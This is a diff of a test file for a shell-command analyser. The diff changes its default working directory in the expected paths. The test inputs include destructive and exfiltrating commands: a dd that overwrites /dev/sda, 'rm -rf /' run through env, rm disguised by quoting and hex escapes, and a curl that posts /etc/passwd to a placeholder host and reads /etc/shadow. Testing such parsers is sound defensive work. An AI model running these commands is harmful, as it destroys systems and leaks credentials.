@@ -6,18 +6,18 @@ const of = (
   argv: readonly string[],
   more: { cwd?: string; env?: string[]; stdin?: { sha256: string } } = {},
 ): Understanding =>
-  factsOf({ argv, cwd: more.cwd ?? '/work', env: more.env ?? [], stdin: more.stdin ?? null });
+  factsOf({ argv, cwd: more.cwd ?? '/w', env: more.env ?? [], stdin: more.stdin ?? null });
 const sh = (code: string): Understanding => of(['sh', '-c', code]);
 
 group('what a plain command does is fully known', () => {
   test.each([
     ['ls -la /tmp', ['ls'], ['-a', '-l', '-la'], ['/tmp']],
-    ['echo "a b" \'c\' | grep -c a > out.txt', ['echo', 'grep'], ['-c'], ['/work/out.txt']],
-    ["r''m x", ['rm'], [], ['/work/x']],
-    [String.raw`\rm x`, ['rm'], [], ['/work/x']],
-    [String.raw`$'\x72m' x`, ['rm'], [], ['/work/x']],
-    ['cp ./a /usr/../etc/b', ['cp'], [], ['/etc/b', '/work/a']],
-    ['cd /srv && touch a', ['cd', 'touch'], [], ['/srv', '/srv/a', '/work/a']],
+    ['echo "a b" \'c\' | grep -c a > out.txt', ['echo', 'grep'], ['-c'], ['/w/out.txt']],
+    ["r''m x", ['rm'], [], ['/w/x']],
+    [String.raw`\rm x`, ['rm'], [], ['/w/x']],
+    [String.raw`$'\x72m' x`, ['rm'], [], ['/w/x']],
+    ['cp ./a /usr/../etc/b', ['cp'], [], ['/etc/b', '/w/a']],
+    ['cd /srv && touch a', ['cd', 'touch'], [], ['/srv', '/srv/a', '/w/a']],
     ['dd if=/dev/zero of=/dev/sda', ['dd'], [], ['/dev/sda', '/dev/zero']],
     [
       'curl -o/etc/x --data @/etc/passwd file:///etc/shadow https://h/p',
@@ -27,10 +27,10 @@ group('what a plain command does is fully known', () => {
     ],
     ['timeout 5 nice -n 3 nohup ls', ['ls', 'nice', 'nohup', 'timeout'], ['-n'], []],
     ['sudo -u bob -- id -u', ['id', 'sudo'], ['-u'], []],
-    ['sudo -- sh -c "env X=1 rm y"', ['env', 'rm', 'sudo'], [], ['/work/y']],
+    ['sudo -- sh -c "env X=1 rm y"', ['env', 'rm', 'sudo'], [], ['/w/y']],
     ["env -S 'rm -rf /'", ['env', 'rm'], ['-S', '-f', '-r', '-rf'], ['/']],
     ['command -v rm', ['command'], ['-v'], []],
-    ['busybox rm x', ['busybox', 'rm'], [], ['/work/x']],
+    ['busybox rm x', ['busybox', 'rm'], [], ['/w/x']],
     ['for i in 1 2; do if true; then ls; fi; done', ['ls', 'true'], [], []],
   ])('%s', (code, programs, flags, paths) => {
     const { facts, inspectable, dynamic } = sh(code);
